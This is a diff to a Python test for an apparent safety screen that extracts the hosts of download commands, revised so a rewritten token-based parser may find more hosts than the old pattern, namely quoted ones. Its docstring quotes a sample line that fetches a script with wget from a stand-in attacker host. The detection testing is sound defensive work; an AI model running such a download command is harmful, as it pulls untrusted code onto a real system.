@@ -90,6 +90,12 @@ def test_the_rewrite_changed_the_rules_that_needed_it():
 
 
 def test_hosts_and_bare_flag_are_unchanged():
+    """The downloader's bare host is now read token by token (the old pattern was 2^n on a run of
+    flags): every host the old screen found is still found, and the only new ones are arguments
+    written in quotes (`wget 'evil.example/a.sh'`), which the old pattern could not see."""
     for text in TEXTS:
-        assert safety.hosts(text) == _old_hosts(text), text
+        new, old = safety.hosts(text), _old_hosts(text)
+        assert set(old) <= set(new), text
+        for host in set(new) - set(old):
+            assert re.search(r"[\"'`(]" + re.escape(host), text, re.IGNORECASE), (text, host)
         assert safety._bare_flag(text) == _old_bare_flag(text), text
